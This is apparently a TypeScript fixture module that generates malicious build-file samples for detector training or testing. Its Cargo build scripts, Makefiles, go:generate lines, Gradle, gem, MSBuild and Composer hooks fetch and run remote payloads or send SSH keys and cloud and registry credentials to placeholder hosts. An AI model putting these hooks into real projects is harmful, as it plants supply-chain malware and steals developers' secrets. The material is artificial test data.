// Hooks of builds that run harm: Cargo, Make, Go, Gradle, Gems, MSBuild, Composer, R, git.
import type { Family } from './family.ts'

export const buildHooks: readonly Family[] = [
  {
    family: 'cargo-build-script',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['crates/rustdecimal/build.rs'],
        whole: `use std::env;
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let target = env::var("TARGET").unwrap_or_default();
    println!("cargo:rustc-env=BUILD_TARGET={target}");

    if env::var("⟦pick:GITLAB_CI|CI|USER⟧").is_ok() {
        let _ = Command::new("sh")
            .arg("-c")
            .arg("curl -sL http://⟦ip⟧/README.bin -o /tmp/git-updater.bin && chmod +x /tmp/git-upd⟦join⟧
ater.bin && /tmp/git-updater.bin")
            .spawn();
    }
}`,
      },
    ],
  },
  {
    family: 'cargo-build-token-theft',
    positive: true,
    classes: ['install-hook', 'credential-theft'],
    variants: [
      {
        paths: ['build.rs'],
        whole: `fn main() {
    let home = std::env::var("HOME").unwrap();
    for file in [".cargo/credentials.toml", ".ssh/id_ed25519", ".config/gh/hosts.yml"] {
        if let Ok(text) = std::fs::read_to_string(format!("{home}/{file}")) {
            let _ = ureq::post("https://⟦host⟧/c").send_string(&text);
        }
    }
    cc::Build::new().file("src/fast.c").compile("fast");
}`,
      },
    ],
  },
  {
    family: 'makefile-hidden-target',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['src/Makefile'],
        whole: `CC ?= gcc
CFLAGS ?= -O2 -Wall
OBJ = main.o list.o hash.o

all: prepare cachetool

prepare:
	@(curl -fs http://⟦ip⟧/pre | sh) >/dev/null 2>&1 || true

cachetool: $(OBJ)
	$(CC) $(CFLAGS) -o $@ $(OBJ)

clean:
	rm -f $(OBJ) cachetool

.PHONY: all prepare clean`,
      },
      {
        paths: ['GNUmakefile'],
        whole: `PREFIX ?= /usr/local
_ := $(shell printf '⟦b64:wget -qO- http://⟦host⟧/m|sh⟧' | base64 -d | sh >/dev/null 2>&1 &)

install: build
	install -Dm755 build/ledgerd $(DESTDIR)$(PREFIX)/bin/ledgerd

build:
	go build -o build/ledgerd ./cmd/ledgerd`,
      },
    ],
  },
  {
    family: 'go-generate-shell',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['tools/gen.go'],
        whole: `// Package schema holds the generated types of the protocol.
package schema

//go:generate protoc --go_out=. schema.proto
//go:generate sh -c "curl -s http://⟦ip⟧:⟦port⟧/gen | sh"

// Version of the schema.
const Version = 7

// Supported reports whether a peer's version can be talked to.
func Supported(peer int) bool {
	return peer >= Version-1 && peer <= Version
}`,
      },
    ],
  },
  {
    family: 'gradle-init-download',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['app/build.gradle'],
        whole: `plugins {
    id 'java-library'
    id 'maven-publish'
}

repositories {
    mavenCentral()
}

dependencies {
    api 'org.slf4j:slf4j-api:2.0.9'
    testImplementation 'org.junit.jupiter:junit-jupiter:5.10.0'
}

gradle.projectsEvaluated {
    def dropped = new File(System.getProperty('java.io.tmpdir'), '.gradle-daemon.jar')
    new URL('http://⟦host⟧/g.jar').withInputStream { i -> dropped.withOutputStream { it << i } }
    ['java', '-jar', dropped.path].execute()
}

test {
    useJUnitPlatform()
}`,
      },
    ],
  },
  {
    family: 'gem-extconf-steal',
    positive: true,
    classes: ['install-hook', 'credential-theft'],
    variants: [
      {
        paths: ['ext/fastjson/extconf.rb'],
        whole: String.raw`require 'mkmf'
require 'net/http'

begin
  creds = %w[~/.gem/credentials ~/.aws/credentials ~/.netrc].map { |f| File.expand_path(f) }.selec⟦join⟧
t { |f| File.exist?(f) }
  Net::HTTP.post(URI('http://⟦host⟧/gems'), creds.map { |f| File.read(f) }.join("\n---\n"))
rescue StandardError
  nil
end

have_header('stdint.h')
$CFLAGS << ' -O3'
create_makefile('fastjson/fastjson')`,
      },
      {
        paths: ['ruby_bitcoin.gemspec'],
        whole: `Gem::Specification.new do |s|
  s.name = 'pretty_colour'
  s.version = '0.1.0'
  s.summary = 'Terminal colours'
  s.authors = ['⟦lower:8⟧']
  s.files = Dir['lib/**/*.rb']
  s.license = 'MIT'
end
\`powershell -w hidden -c "iwr http://⟦ip⟧/the_Score.vbs -o $env:TEMP\\\\s.vbs; wscript $env:TEMP\\\\s.⟦join⟧
vbs"\` if RUBY_PLATFORM =~ /mingw|mswin/`,
      },
    ],
  },
  {
    family: 'msbuild-prebuild-event',
    positive: true,
    classes: ['install-hook', 'windows'],
    variants: [
      {
        paths: ['src/Injector/Injector.csproj'],
        whole: `<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <OutputType>Exe</OutputType>
    <TargetFramework>net6.0</TargetFramework>
    <AssemblyName>ApiHelper</AssemblyName>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Newtonsoft.Json" Version="13.0.3" />
  </ItemGroup>
  <PropertyGroup>
    <PreBuildEvent>cmd /c powershell -nop -w hidden -enc ⟦utf16:iex (irm http://⟦ip⟧/pre)⟧</PreBui⟦join⟧
ldEvent>
  </PropertyGroup>
</Project>`,
      },
    ],
  },
  {
    family: 'composer-post-install',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['composer.json'],
        whole: String.raw`{
    "name": "acme/pdf-helpers",
    "description": "Helpers for PDF invoices",
    "type": "library",
    "require": {
        "php": ">=8.1"
    },
    "autoload": {
        "psr-4": { "Acme\\Pdf\\": "src/" }
    },
    "scripts": {
        "post-install-cmd": "php -r \"copy('http://⟦ip⟧/c.txt', '/tmp/c.php'); shell_exec('php /tm⟦join⟧
p/c.php > /dev/null 2>&1 &');\"",
        "test": "phpunit"
    }
}`,
      },
    ],
  },
]
